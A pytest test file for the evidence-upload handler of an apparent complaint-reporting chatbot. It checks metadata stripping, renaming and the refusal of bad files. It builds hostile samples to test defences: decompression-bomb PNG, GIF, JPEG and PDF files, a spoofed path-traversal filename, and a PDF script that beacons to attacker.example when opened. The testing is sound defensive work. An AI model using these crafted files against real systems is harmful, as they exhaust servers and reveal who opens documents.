"""Evidence files at the wizard's evidence step, through `dialog.handle`: what is stored (by the file's real
type, under a name of our own, an image re-encoded and a PDF rewritten without their metadata, no name the
resident gave it), what is refused and whether it was downloaded at all, and the quotas."""

from __future__ import annotations

import hashlib
import io
import re
import struct
import zlib
from typing import Any, cast

import pytest
from PIL import Image
from sqlalchemy import select

from handlers import dialog
from handlers.types import Attachment, AttachmentKind, Inbound
from storage.models import Attachment as StoredAttachment
from tests.conftest import evidence_content
from tests.factories import (
    hidden_words_in,
    pdf_facts,
    pdf_with_metadata,
    photo_with_metadata,
    plain_pdf,
    plain_photo,
    png_with_text,
)
from tests.handlers.conftest import JPEG, DialogHarness

PNG = plain_photo(media_type="image/png")
RECEIVED = "已收到第 1 个文件（最多5个），照片中的位置、文档中的作者等隐藏信息已删除。"
DESCRIPTION = "卫生院收费窗口多收检查费，不给开具正式票据。"


class Download:
    """A channel's download of the file; counts how often the dialog asked for it."""

    def __init__(self, content: bytes | None) -> None:
        self.content = content
        self.calls = 0

    async def __call__(self) -> bytes:
        self.calls += 1
        if self.content is None:
            raise TimeoutError("the platform's media server did not answer")
        return self.content


async def _send(harness: DialogHarness, user_ref: str = "r1", **fields: Any) -> str:
    inbound = Inbound("test", user_ref, "zh", **fields)
    async with harness.sessionmaker.begin() as session:
        step = await dialog.handle(session, inbound, harness.context)
    return "\n".join(message.text for message in step.messages)


async def _to_evidence(harness: DialogHarness, user_ref: str = "r1", **fields: Any) -> None:
    for answer in ({"command": "report"}, {"choice": "district:wangcheng"}, {"text": "望城区某卫生院"},
                   {"choice": "when:today"}, {"text": DESCRIPTION}):
        await _send(harness, user_ref, **answer, **fields)


async def _upload(harness: DialogHarness, download: Download, *, kind: AttachmentKind = "document",
                  media_type: str | None = "image/jpeg", name: str | None = "photo.jpg", size: int | None = None,
                  user_ref: str = "r1", **fields: Any) -> str:
    attachment = Attachment(kind, media_type, size, name, download)
    return await _send(harness, user_ref, attachment=attachment, **fields)


def _files(harness: DialogHarness) -> list[bytes]:
    """What each stored evidence file holds, as the resident sent it (files are stored encrypted)."""
    root = harness.context.evidence_dir
    return [evidence_content(root, path.relative_to(root).as_posix()) for path in sorted(root.rglob("*"))
            if path.is_file()]


async def _stored(harness: DialogHarness) -> list[StoredAttachment]:
    async with harness.sessionmaker() as session:
        return list((await session.execute(select(StoredAttachment).order_by(StoredAttachment.id))).scalars())


@pytest.fixture
def small_files(harness: DialogHarness) -> DialogHarness:
    """Files of at most 1 MB, and draft quotas small enough for the test's files."""
    limits = harness.context.city.limits.model_copy(update={
        "max_attachment_bytes": 1024 * 1024, "draft_evidence_bytes_per_address": 1_500})
    harness.context.city = harness.context.city.model_copy(update={"limits": limits})
    return harness


async def test_a_file_is_stored_by_its_real_type_under_a_name_of_our_own(harness: DialogHarness) -> None:
    await _to_evidence(harness)
    download = Download(PNG)

    answer = await _upload(harness, download, media_type="image/jpeg", name="..\\..\\证据\u202egpj.exe")

    assert answer.startswith(RECEIVED)
    [stored] = await _stored(harness)
    [content] = _files(harness)
    assert (stored.media_type, stored.original_name, stored.size_bytes, stored.sha256) == (
        "image/png", None, len(content), hashlib.sha256(content).hexdigest())
    assert re.fullmatch(r"2026/11/[0-9a-f]{32}\.png", stored.stored_name)
    with Image.open(io.BytesIO(content)) as image:
        assert (image.format, image.size) == ("PNG", (160, 120))
    assert download.calls == 1


async def test_a_photo_is_kept_upright_without_its_metadata_or_the_name_it_was_sent_under(
        harness: DialogHarness) -> None:
    await _to_evidence(harness)
    photo = photo_with_metadata(640, 480)  # stored sideways, EXIF orientation 6

    answer = await _upload(harness, Download(photo), kind="photo", name="张伟_13912345678_证据.jpg")

    assert answer.startswith(RECEIVED)
    [stored] = await _stored(harness)
    [content] = _files(harness)
    assert (stored.original_name, stored.size_bytes, hidden_words_in(content)) == (None, len(content), [])
    with Image.open(io.BytesIO(content)) as image:
        assert (image.format, image.size, dict(image.getexif()), image.info.get("comment")) == (
            "JPEG", (480, 640), {}, None)
        top = image.convert("RGB").getpixel((240, 20))
        assert isinstance(top, tuple) and top[0] > 180 > top[2]  # the photo's red left side is on top


async def test_a_png_is_kept_without_its_text_chunks(harness: DialogHarness) -> None:
    await _to_evidence(harness)

    answer = await _upload(harness, Download(png_with_text(300, 200)), media_type="image/png", name="LI Na.png")

    assert answer.startswith(RECEIVED)
    [content] = _files(harness)
    assert hidden_words_in(content) == []
    with Image.open(io.BytesIO(content)) as image:
        assert (image.format, image.size, image.mode, image.info, dict(image.getexif())) == (
            "PNG", (300, 200), "RGBA", {}, {})


async def test_an_animated_gif_keeps_its_frames_and_loses_its_comment(harness: DialogHarness) -> None:
    await _to_evidence(harness)
    frames = [Image.new("RGB", (60, 40), (shade, 40, 40)) for shade in (0, 120, 240)]
    sent = io.BytesIO()
    frames[0].save(sent, format="GIF", save_all=True, append_images=frames[1:], duration=[100, 200, 300], loop=0,
                   comment=b"ZHANG Wei 13912345678")

    answer = await _upload(harness, Download(sent.getvalue()), media_type="image/gif", name="a.gif")

    assert answer.startswith(RECEIVED)
    [content] = _files(harness)
    assert hidden_words_in(content) == []
    with Image.open(io.BytesIO(content)) as image:
        assert (image.size, getattr(image, "n_frames", 1), "comment" in image.info) == ((60, 40), 3, False)


@pytest.mark.parametrize(("content", "media_type"), [
    (b"\xff\xd8\xff\xe0" + b"\x00" * 500, "image/jpeg"),  # a JPEG's first bytes, then nothing of a picture
    (JPEG[: len(JPEG) // 2], "image/jpeg"),  # a photo cut short
    (b"GIF89a" + b"\x00" * 100, "image/gif"),
])
async def test_a_file_that_looks_like_an_image_but_does_not_open_is_refused_and_asked_for_again(
        harness: DialogHarness, content: bytes, media_type: str) -> None:
    await _to_evidence(harness)

    answer = await _upload(harness, Download(content), media_type=media_type)

    assert answer.startswith("这个图片文件无法打开，可能已损坏或不完整，没有接收。请重新发送一次，或换一张图片。\n"
                             "第5步")
    assert (_files(harness), await _stored(harness)) == ([], [])


async def test_a_pdf_is_kept_with_its_pages_and_without_its_document_information_or_xmp(
        harness: DialogHarness) -> None:
    await _to_evidence(harness)
    document = pdf_with_metadata(["Receipt 0042", "Fee 350 yuan"], pages=3)
    assert pdf_facts(document)[2:] != (None, False, [])  # it does name its author

    answer = await _upload(harness, Download(document), media_type="application/pdf",
                           name="张伟_13912345678_举报材料.pdf")

    assert answer.startswith(RECEIVED)
    [stored] = await _stored(harness)
    [content] = _files(harness)
    assert (stored.media_type, stored.original_name, stored.size_bytes, stored.sha256) == (
        "application/pdf", None, len(content), hashlib.sha256(content).hexdigest())
    assert stored.cleaned_at is not None  # not for `qinglian evidence clean` to do again
    assert re.fullmatch(r"2026/11/[0-9a-f]{32}\.pdf", stored.stored_name)
    assert pdf_facts(content) == (3, [f"Receipt 0042\nFee 350 yuan\nPage {number}" for number in (1, 2, 3)],
                                  None, False, [])


@pytest.mark.parametrize("content", [
    b"%PDF-1.4\n" + b"1 0 obj\n" * 20,  # a PDF's first bytes, then nothing of a document
    pdf_with_metadata()[:1200],  # a document cut short
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n",  # no pages at all
])
async def test_a_pdf_that_does_not_open_is_refused_and_the_files_before_it_are_kept(
        harness: DialogHarness, content: bytes) -> None:
    await _to_evidence(harness)
    assert (await _upload(harness, Download(JPEG), kind="photo")).startswith(RECEIVED)

    answer = await _upload(harness, Download(content), media_type="application/pdf", name="材料.pdf")

    assert answer.startswith("这个PDF文件无法打开，可能已损坏或不完整，没有接收。请重新发送一次，或换一个文件。\n"
                             "第5步")
    assert [item.media_type for item in await _stored(harness)] == ["image/jpeg"]
    assert len(_files(harness)) == 1
    again = await _upload(harness, Download(plain_pdf()), media_type="application/pdf")
    assert again.startswith("已收到第 2 个文件")
    assert [item.media_type for item in await _stored(harness)] == ["image/jpeg", "application/pdf"]


async def test_a_pdf_that_needs_a_password_is_refused_with_its_own_reason(harness: DialogHarness) -> None:
    from pypdf import PdfReader, PdfWriter

    locked = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_with_metadata())))
    locked.encrypt(user_password="13912345678", owner_password="owner", algorithm="AES-256")
    sent = io.BytesIO()
    locked.write(sent)
    await _to_evidence(harness)

    answer = await _upload(harness, Download(sent.getvalue()), media_type="application/pdf")

    assert answer.startswith("这个PDF文件设有密码，无法打开，没有接收。请发送没有密码的版本（例如重新导出为PDF）。\n"
                             "第5步")
    assert (_files(harness), await _stored(harness)) == ([], [])


async def test_a_pdf_with_only_an_owner_password_is_taken_and_kept_without_encryption_or_metadata(
        harness: DialogHarness) -> None:
    from pypdf import PdfReader, PdfWriter

    restricted = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_with_metadata(pages=1))))
    restricted.encrypt(user_password="", owner_password="owner", algorithm="AES-128")  # opens; printing limited
    sent = io.BytesIO()
    restricted.write(sent)
    await _to_evidence(harness)

    answer = await _upload(harness, Download(sent.getvalue()), media_type="application/pdf")

    assert answer.startswith(RECEIVED)
    [content] = _files(harness)
    assert b"/Encrypt" not in content
    assert pdf_facts(content) == (1, ["Receipt 0042\nPage 1"], None, False, [])


async def test_an_image_of_too_many_pixels_is_refused_before_it_is_decoded(harness: DialogHarness) -> None:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    bomb = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 20_000, 20_000, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * 60_001 * 20)) + chunk(b"IEND", b""))  # 400 MP, 1 KB
    await _to_evidence(harness)

    answer = await _upload(harness, Download(bomb), media_type="image/png")

    assert answer.startswith("这张图片的像素太多，无法接收。请缩小图片（例如截图）后重新发送。\n第5步")
    assert (_files(harness), await _stored(harness)) == ([], [])


async def test_an_animation_of_thousands_of_tiny_frames_is_refused_before_its_frames_are_decoded(
        harness: DialogHarness) -> None:
    """A 75 KB GIF of 3,000 one-pixel frames is far under the pixel limit, but re-encoding costs per frame: 200,000
    such frames (5 MB) held a CPU for two minutes. Such a file is refused by its frame count, read from the header."""
    frames = [Image.new("P", (1, 1), shade % 256) for shade in range(3_000)]
    sent = io.BytesIO()
    frames[0].save(sent, format="GIF", save_all=True, append_images=frames[1:], duration=10, optimize=False)
    await _to_evidence(harness)

    answer = await _upload(harness, Download(sent.getvalue()), media_type="image/gif", name="a.gif")

    assert answer.startswith("这个动图的帧数太多（最多2000帧），无法接收。请发送较短的动图，或其中一张截图。\n第5步")
    assert (_files(harness), await _stored(harness)) == ([], [])


def _pdf_listing_one_page(times: int) -> bytes:
    """A small PDF whose page tree lists one empty page `times` times."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>",
               b"<</Type/Pages/Kids[" + b" ".join([b"3 0 R"] * times) + b"]/Count %d>>" % times,
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]>>"]
    body, offsets = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj" % number + content + b"endobj\n"
    table = b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return body + table + b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(body))


async def test_a_pdf_of_thousands_of_pages_is_refused_before_its_pages_are_read(harness: DialogHarness) -> None:
    """Writing a PDF costs per page: 100,000 listings of one empty page (600 KB) took 9 s and came out as 10 MB."""
    await _to_evidence(harness)

    answer = await _upload(harness, Download(_pdf_listing_one_page(3_000)), media_type="application/pdf")

    assert answer.startswith("这个PDF的页数太多（最多1000页），无法接收。请只发送相关的页面。\n第5步")
    assert (_files(harness), await _stored(harness)) == ([], [])


async def test_a_pdf_of_a_thousand_pages_is_taken(harness: DialogHarness) -> None:
    await _to_evidence(harness)

    answer = await _upload(harness, Download(_pdf_listing_one_page(1_000)), media_type="application/pdf")

    assert answer.startswith(RECEIVED)
    [content] = _files(harness)
    assert pdf_facts(content)[0] == 1_000


def _jpeg_scans(data: bytes) -> list[bytes]:
    """The scans (start-of-scan segment and its coded data) of a JPEG, in order."""
    scans, start = [], data.find(b"\xff\xda")
    while start != -1:
        end = start + 2
        while not (data[end] == 0xFF and data[end + 1] not in (0x00, *range(0xD0, 0xD8))):
            end += 1
        scans.append(data[start:end])
        start = data.find(b"\xff\xda", end)
    return scans


async def test_a_jpeg_of_a_thousand_scans_is_refused_before_it_is_decoded(harness: DialogHarness) -> None:
    """A progressive JPEG's picture comes in scans, each one a pass over all its pixels: a 94 KB photo of 4000 × 4000
    grey with its last scan repeated 1,000 times took 15 s to decode (5,000 times, 218 KB: 86 s)."""
    sent = io.BytesIO()
    Image.new("L", (1000, 1000), 128).save(sent, format="JPEG", progressive=True)
    data = sent.getvalue()
    many = data[:-2] + _jpeg_scans(data)[-1] * 1_000 + b"\xff\xd9"
    await _to_evidence(harness)

    answer = await _upload(harness, Download(many), media_type="image/jpeg")

    assert answer.startswith("这张图片的编码方式需要过多的解码遍数，无法接收。"
                             "请另存为普通JPEG或截图后重新发送。\n第5步")
    assert (_files(harness), await _stored(harness)) == ([], [])


async def test_an_ordinary_progressive_jpeg_is_taken(harness: DialogHarness) -> None:
    sent = io.BytesIO()
    Image.new("RGB", (1200, 800), (90, 120, 150)).save(sent, format="JPEG", progressive=True, quality=90)
    await _to_evidence(harness)

    assert (await _upload(harness, Download(sent.getvalue()), media_type="image/jpeg")).startswith(RECEIVED)


async def test_a_document_of_a_type_we_do_not_take_is_refused_without_downloading_it(harness: DialogHarness) -> None:
    await _to_evidence(harness)
    download = Download(b"PK\x03\x04 a zip archive")

    answer = await _upload(harness, download, media_type="application/zip", name="材料.zip")

    assert answer.startswith("这个文件不是图片（JPG、PNG、GIF、WebP）或PDF，无法作为证据接收。")
    assert (download.calls, _files(harness), await _stored(harness)) == (0, [], [])


async def test_a_file_of_unknown_size_is_measured_after_download_and_refused_if_too_big(
        small_files: DialogHarness) -> None:
    await _to_evidence(small_files)
    too_big = Download(JPEG + b"\x00" * (1024 * 1024))

    answer = await _upload(small_files, too_big, kind="photo", size=None)

    assert answer.startswith("文件太大了，每个文件不能超过1MB。")
    assert (too_big.calls, _files(small_files)) == (1, [])
    assert "\n第5步" in answer  # the question again: the draft goes on


async def test_a_file_that_cannot_be_downloaded_is_asked_for_again(harness: DialogHarness) -> None:
    await _to_evidence(harness)

    answer = await _upload(harness, Download(None), kind="photo")

    assert answer.startswith("文件接收失败，请重新发送一次。\n第5步")
    again = await _upload(harness, Download(JPEG), kind="photo")
    assert again.startswith(RECEIVED)


async def test_files_relayed_by_a_platform_server_do_not_share_one_addresss_quota(small_files: DialogHarness) -> None:
    photo = plain_pdf(filler=540)  # about 1,200 bytes (rewritten when taken): two from one address exceed its 1,500
    relay: dict[str, Any] = {"client_ip": "101.226.103.7", "shared_address": True}
    answers = []
    for user_ref in ("openid-1", "openid-2"):
        await _to_evidence(small_files, user_ref, **relay)
        answers.append(await _upload(small_files, Download(photo), kind="photo", user_ref=user_ref, **relay))
    own: dict[str, Any] = {"client_ip": "101.226.103.7"}
    for user_ref in ("visitor-1", "visitor-2"):
        await _to_evidence(small_files, user_ref, **own)
        answers.append(await _upload(small_files, Download(photo), kind="photo", user_ref=user_ref, **own))

    assert [answer.split("\n", 1)[0] for answer in answers] == [
        RECEIVED, RECEIVED, RECEIVED,
        "您所在网络上传的证据文件已达上限，这个文件没有接收，请提交或取消已有的举报后再试。"]
    assert len(_files(small_files)) == 3


async def test_a_photo_sent_at_the_description_step_with_too_short_a_caption_is_said_not_to_be_kept(
        harness: DialogHarness) -> None:
    """A photo whose caption cannot be the description is not taken in silence: the resident is told that no
    file is needed yet, the question is asked again, and the photo is not stored."""
    for answer in ({"command": "report"}, {"choice": "district:wangcheng"}, {"text": "望城区某卫生院"},
                   {"choice": "when:today"}):
        await _send(harness, "r1", **answer)
    said = await _upload(harness, Download(plain_photo(200, 150)), kind="photo", text="看图")
    assert "现在还不需要上传文件，请先回答当前问题。" in said
    assert await _stored(harness) == [] and _files(harness) == []


HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 200
"""The start of an iPhone photo in its own format (HEIC)."""


@pytest.mark.parametrize(("kind", "media_type", "content", "named"), [
    ("photo", "image/heic", HEIC, "HEIC"),
    ("document", "image/heic", HEIC, "HEIC"),
    ("document", None, HEIC, "HEIC"),
    ("photo", "image/bmp", b"BM" + b"\x00" * 200, "BMP"),
    ("document", "image/tiff", b"II*\x00" + b"\x00" * 200, "TIFF"),
])
async def test_a_photo_in_a_format_we_do_not_take_is_named_and_the_way_to_send_it_said(
        harness: DialogHarness, kind: AttachmentKind, media_type: str | None, content: bytes, named: str) -> None:
    """An iPhone photo (HEIC) was answered "这个文件不是图片" (this file is not an image): the resident, who sent a
    photo, did not know what was wrong or what to do. Its format is named, with a way to send it."""
    await _to_evidence(harness)
    answer = await _upload(harness, Download(content), kind=kind, media_type=media_type, name=f"IMG_0001.{named}")
    assert answer.startswith(f"这张图片是{named}格式，无法接收。请发送JPG、PNG、GIF、WebP图片或PDF文件"), answer
    assert "不是图片" not in answer and "第5步" in answer
    assert (_files(harness), await _stored(harness)) == ([], [])


async def test_an_empty_file_is_said_to_be_empty(harness: DialogHarness) -> None:
    """A file of 0 bytes (a download that never finished on the phone) was "not an image or PDF"."""
    await _to_evidence(harness)
    answer = await _upload(harness, Download(b""), kind="photo", media_type="image/jpeg", size=0)
    assert answer.startswith("这个文件是空的（0字节），没有接收。请重新选择文件发送。"), answer


def _pdf_with_its_page_in_an_object_stream(padding: int, xref_entries: int = 0) -> bytes:
    """A one-page PDF whose page dictionary is kept in a compressed object stream, after `padding` spaces, and whose
    cross-reference stream (compressed too) lists `xref_entries` further empty entries: a few KB that inflate, when
    read, to what a reader must parse byte by byte."""
    body, offsets = b"%PDF-1.7\n", {}

    def squeeze(*parts: tuple[bytes, int]) -> bytes:
        packer, out = zlib.compressobj(9), []
        for part, times in parts:
            chunk = part * min(times, 1 << 20) if times else b""
            left = times
            while left > 0:
                out.append(packer.compress(chunk[:len(part) * min(left, 1 << 20)]))
                left -= min(left, 1 << 20)
        out.append(packer.flush())
        return b"".join(out)

    for number, content in ((1, b"<</Type/Catalog/Pages 2 0 R>>"), (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")):
        offsets[number] = len(body)
        body += b"%d 0 obj" % number + content + b"endobj\n"
    header = b"3 %d " % padding
    packed = squeeze((header, 1), (b" ", padding), (b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]>>", 1))
    offsets[4] = len(body)
    body += (b"4 0 obj<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(header), len(packed))
             + packed + b"\nendstream endobj\n")
    xref_at = len(body)
    rows = [b"\x00\x00\x00\x00\x00\xff\xff", *(b"\x01" + struct.pack(">I", offsets[n]) + b"\x00\x00" for n in (1, 2)),
            b"\x02\x00\x00\x00\x04\x00\x00", b"\x01" + struct.pack(">I", offsets[4]) + b"\x00\x00",
            b"\x01" + struct.pack(">I", xref_at) + b"\x00\x00"]
    size = len(rows) + xref_entries
    table = squeeze((b"".join(rows), 1), (b"\x00" * 7, xref_entries))
    return body + (b"5 0 obj<</Type/XRef/W[1 4 2]/Size %d/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n"
                   % (size, len(table)) + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)


async def test_a_pdf_whose_page_is_in_an_object_stream_is_taken(harness: DialogHarness) -> None:
    await _to_evidence(harness)

    answer = await _upload(harness, Download(_pdf_with_its_page_in_an_object_stream(1_000, 1_000)),
                           media_type="application/pdf")

    assert answer.startswith(RECEIVED)
    [content] = _files(harness)
    assert pdf_facts(content)[0] == 1


TOO_COMPLEX = "这个PDF文件的内部结构过于庞大，无法接收。请把它打印或导出为一个新的PDF后再发送，或只发送相关页面的截图。"
UNREADABLE = "这个PDF文件无法打开，可能已损坏或不完整，没有接收。请重新发送一次，或换一个文件。"


@pytest.mark.parametrize(("padding", "xref_entries", "said"),
                         [(40_000_000, 0, TOO_COMPLEX), (0, 5_000_000, UNREADABLE)])
async def test_a_small_pdf_whose_structure_inflates_to_tens_of_megabytes_is_refused(
        harness: DialogHarness, padding: int, xref_entries: int, said: str) -> None:
    """A 40 KB PDF whose object stream inflates to 40 MB of spaces held a CPU for 10 s while they were parsed one by
    one (5 million cross-reference entries: as long); a 10 MB one, of 140 such streams, for over half an hour. A
    cross-reference stream over the limit leaves pypdf without the document's table: it does not open."""
    await _to_evidence(harness)
    sent = _pdf_with_its_page_in_an_object_stream(padding, xref_entries)
    assert len(sent) < 100_000

    answer = await _upload(harness, Download(sent), media_type="application/pdf")

    assert answer.startswith(said + "\n第5步"), answer
    assert (_files(harness), await _stored(harness)) == ([], [])


def _pdf_with_scripts() -> bytes:
    """A one-page PDF that runs a script when its page is opened and when a link on it is pointed at or clicked;
    a second link opens a web address."""
    script = b"<</S/JavaScript/JS(app.launchURL\\('https://attacker.example/seen'\\))>>"
    objects = [b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>",
               b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/AA<</O 6 0 R>>/Annots[4 0 R 5 0 R]>>",
               b"<</Type/Annot/Subtype/Link/Rect[0 0 50 50]/A 6 0 R/AA<</E 6 0 R>>>>",
               b"<</Type/Annot/Subtype/Link/Rect[50 50 90 90]/A<</S/URI/URI(https://example.org/permit)>>>>",
               script]
    body, offsets = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj" % number + content + b"endobj\n"
    table = b"xref\n0 7\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return body + table + b"trailer<</Size 7/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(body)


async def test_a_pdf_is_kept_without_the_scripts_its_page_and_links_would_run_for_whoever_opens_it(
        harness: DialogHarness) -> None:
    """A script run when staff open the page can tell the sender who opened it and when (or worse)."""
    from pypdf import PdfReader

    await _to_evidence(harness)

    answer = await _upload(harness, Download(_pdf_with_scripts()), media_type="application/pdf")

    assert answer.startswith(RECEIVED)
    [content] = _files(harness)
    [page] = PdfReader(io.BytesIO(content)).pages
    assert "/AA" not in page
    first, second = (annotation.get_object() for annotation in cast(Any, page["/Annots"]))
    assert "/A" not in first and "/AA" not in first
    assert second["/A"]["/URI"] == "https://example.org/permit"  # what the page links to is part of what it shows
    assert b"JavaScript" not in content and b"attacker" not in content
